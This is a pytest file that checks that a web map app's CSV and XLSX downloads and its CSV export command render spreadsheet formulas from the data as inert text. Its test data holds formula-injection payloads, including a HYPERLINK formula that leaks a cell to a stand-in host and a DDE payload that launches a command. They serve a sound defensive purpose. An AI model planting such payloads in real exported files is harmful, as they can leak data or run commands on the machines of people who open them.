"""Spreadsheet formulas in the data come out of every CSV as text, never as a formula a spreadsheet runs."""

from __future__ import annotations

import csv
import io
import zipfile

import openpyxl
import pytest

from tests.builders import edit_csv, edit_geojson, write_dataset
from tests.cli_runner import hpmap
from webmap import create_app

FORMULAS = ('=HYPERLINK("http://evil.example/?leak="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3")


@pytest.fixture(scope="module")
def data_dir(tmp_path_factory):
    directory = write_dataset(tmp_path_factory.mktemp("formulas") / "data")
    edit_csv(directory / "industrial-parks.csv", lambda rows: [
        dict(row, name_vi=FORMULAS[i % 2], name_en=FORMULAS[2 + i % 2], developer=FORMULAS[0])
        for i, row in enumerate(rows)
    ])  # fmt: skip
    edit_geojson(directory / "industrial-parks.geojson", lambda d: [
        f["properties"].update(geometry_quality="approximate", geometry_note=FORMULAS[1]) for f in d["features"]
    ])  # fmt: skip
    return directory


@pytest.fixture(scope="module")
def client(data_dir):
    return create_app({"DATA_DIR": str(data_dir), "OFFLINE": True, "TESTING": True}).test_client()


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_no_formula(text: str) -> None:
    found = cells(text)
    assert any(cell.lstrip("'") in FORMULAS for cell in found), "the test data did not reach this CSV"
    runnable = [cell for cell in found if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and cell in FORMULAS]
    assert not runnable, runnable
    assert any(cell == "'" + FORMULAS[0] for cell in found)  # kept, as text


@pytest.mark.parametrize("url", ["/api/sites?f=csv&limit=100", "/api/quality?f=csv"])
def test_csv_downloads_neutralise_formulas(client, url):
    response = client.get(url)
    assert response.status_code == 200
    assert_no_formula(response.get_data(as_text=True))


@pytest.mark.parametrize("url", ["/api/sites?f=xlsx&limit=100", "/api/quality?f=xlsx"])
def test_xlsx_downloads_keep_formulas_as_text(client, url):
    response = client.get(url)
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.get_data())) as book:
        sheet_xml = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula element anywhere
    found = [c.value for row in openpyxl.load_workbook(io.BytesIO(response.get_data())).active.iter_rows() for c in row]
    assert FORMULAS[0] in found  # the value itself, as text


def test_csv_export_neutralises_formulas(data_dir):
    result = hpmap("export", "industrial-parks", "--format", "csv", "--data-dir", data_dir)
    assert result.exit_code == 0
    assert_no_formula(result.stdout)
